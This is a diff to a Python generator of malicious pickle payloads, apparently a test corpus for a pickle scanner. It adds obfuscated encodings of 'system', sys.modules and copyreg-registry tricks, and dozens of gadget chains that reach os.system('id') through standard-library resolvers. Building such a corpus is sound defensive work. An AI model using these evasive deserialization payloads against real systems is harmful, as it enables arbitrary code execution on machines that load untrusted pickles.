@@ -36,6 +36,13 @@ class I(C):
     """The same by INST (plain names alone)."""
 
 
+class E:
+    """An extension code: EXT1."""
+
+    def __init__(self, code):
+        self.code = code
+
+
 class B:
     """An object with states given to it by BUILD, one after the other."""
 
@@ -125,6 +132,8 @@ class Writer:
             self.put(value.callee)
             self.put_tuple(value.args)
             self.out += b"\x81" if isinstance(value, N) else b"R"
+        elif isinstance(value, E):
+            self.out += b"\x82" + bytes([value.code])
         elif isinstance(value, B):
             self.put(value.obj)
             for state in value.states:
@@ -232,6 +241,9 @@ NAMES = {
     "fromhex": method(C(builtin("bytes.fromhex"), "73 79 73 74 65 6d"), "decode"),
     "unhexlify": method(C(G("binascii", "unhexlify"), "73797374656d"), "decode"),
     "b64": method(C(G("base64", "b64decode"), "c3lzdGVt"), "decode"),
+    "html_numbers": method(C(G("html", "unescape"), "&#115;ys&#x54;&#101;m"), "lower"),
+    "html_named": method(method(C(G("html", "unescape"), "&lt;sys&period;tem&gt;"), "strip", "<>"), "replace", ".", ""),
+    "dedent": C(G("textwrap", "dedent"), "   system"),
     "b32": method(C(G("base64", "b32decode"), "ON4XG5DFNU======"), "decode"),
     "b85": method(C(G("base64", "b85decode"), "b9r-gWo-"), "decode"),
     "a2b_base64": method(C(G("binascii", "a2b_base64"), "c3lzdGVt"), "decode"),
@@ -417,6 +429,7 @@ HARMLESS = {
     "slice": C(builtin("slice"), 1, 2, 3),
     "complex": C(builtin("complex"), 1, 2),
     "range": C(builtin("range"), 3),
+    "reconstructed": attribute(C(G("copyreg", "_reconstructor"), G("email.message", "Message"), builtin("object"), None), "get_payload"),
 }
 
 # ---- What more of Python's own functions come to ------------------------------------------------
@@ -796,8 +809,9 @@ CHAINS.update({
     "stopit": C(attribute(C(builtin("StopIteration"), S), "value"), "id"),
     "slice_stop": C(attribute(C(builtin("slice"), S), "stop"), "id"),
     "partial_reduce": C(item(item(method(C(PARTIAL, S, "id"), "__reduce__"), 1), 0), "id"),
-    "weakref_call": C(S, "id"),
-    "weakproxy": C(S, "id"),
+    "weakref_call": C(C(C(G("weakref", "ref"), S)), "id"),
+    "weakproxy": C(C(G("weakref", "proxy"), S), "id"),
+    "unittest_inst": method(I(G("unittest", "FunctionTestCase"), C(PARTIAL, S, "id")), "runTest"),
     "chain_call": C(attribute(C(attribute(C(builtin("__import__"), "importlib"), "import_module"), "os"), "system"), "id"),
     "copyreg_recon": C(B(N(PARTIAL, builtin("len")), (S, ("id",), {}, {}))),
     "reduce_call": C(S, "id"),
@@ -832,6 +846,30 @@ CHAINS.update({
     "userdict_item": C(item(C(G("collections", "UserDict"), {"a": S}), "a"), "id"),
     "typing_cast": C(C(G("typing", "cast"), 1, S), "id"),
     "copy_fn": C(item(C(G("copy", "deepcopy"), [S]), 0), "id"),
+    "modules_getitem": C(attribute(C(builtin("dict.__getitem__"), SYS_MODULES, "os"), "system"), "id"),
+    "modules_copy": C(attribute(C(GETITEM, method(SYS_MODULES, "copy"), "os"), "system"), "id"),
+    "modules_items": C(attribute(method(C(builtin("dict"), C(builtin("dict.items"), SYS_MODULES)), "get", "os"), "system"), "id"),
+    "module_getattribute": C(C(G("types", "ModuleType.__getattribute__"), OS, "system"), "id"),
+    "entry_point": C(method(C(G("importlib.metadata", "EntryPoint"), "n", "os:system", "g"), "load"), "id"),
+    "getmembers": C(item(C(builtin("dict"), C(G("inspect", "getmembers"), OS)), "system"), "id"),
+    "find_class": C(method(C(G("pickle", "Unpickler"), C(G("io", "BytesIO"), b"")), "find_class", "os", "system"), "id"),
+    "find_class_unbound": C(C(G("pickle", "Unpickler.find_class"), C(G("pickle", "Unpickler"), C(G("io", "BytesIO"), b"")), "os", "system"), "id"),
+    "pickle_getattribute": C(item(C(G("pickle", "_getattribute"), OS, "system"), 0), "id"),
+    "configurator": C(method(C(G("logging.config", "BaseConfigurator"), {}), "resolve", "os.system"), "id"),
+    "logging_resolve": C(C(G("logging.config", "_resolve"), "os.system"), "id"),
+    "resolve_dotted": C(C(G("xmlrpc.server", "resolve_dotted_attribute"), OS, "system"), "id"),
+    "pydoc_resolve": C(item(C(G("pydoc", "resolve"), "os.system"), 0), "id"),
+    "generic_alias": C(C(G("types", "GenericAlias"), S, (builtin("int"),)), "id"),
+    "generic_origin": C(attribute(C(G("types", "GenericAlias"), S, (builtin("int"),)), "__origin__"), "id"),
+    "typing_alias": C(C(G("typing", "_GenericAlias"), S, (builtin("int"),)), "id"),
+    "add_extension": Do(C(G("copyreg", "add_extension"), "os", "system", 127), C(E(127), "id")),
+    "inverted_registry": Do(P(G("copyreg", "_inverted_registry"), "setitems", 126, ("os", "system")), C(E(126), "id")),
+    "extension_cache": Do(op("setitem", G("copyreg", "_extension_cache"), 125, S), C(E(125), "id")),
+    "modules_put": Do(P(SYS_MODULES, "setitems", "written", OS), C(G("written", "system"), "id")),
+    "modules_put_known": Do(P(SYS_MODULES, "setitems", "json", OS), C(G("json", "system"), "id")),
+    "modules_update": Do(method(SYS_MODULES, "update", {"written": OS}), C(G("written", "system"), "id")),
+    "modules_setitem": Do(op("setitem", SYS_MODULES, "written", OS), C(attribute(C(IMPORT, "written"), "system"), "id")),
+    "modules_inst": Do(P(SYS_MODULES, "setitems", "json", OS), I(G("json", "system"), "id")),
     "pickle_in_pickle": C(G("pickle", "loads"), pickle_of(C(S, "id"))),
     "pickle_unpickler": method(C(G("pickle", "Unpickler"), C(G("io", "BytesIO"), pickle_of(C(S, "id")))), "load"),
     "pickle__loads": C(G("_pickle", "loads"), pickle_of(C(S, "id"))),
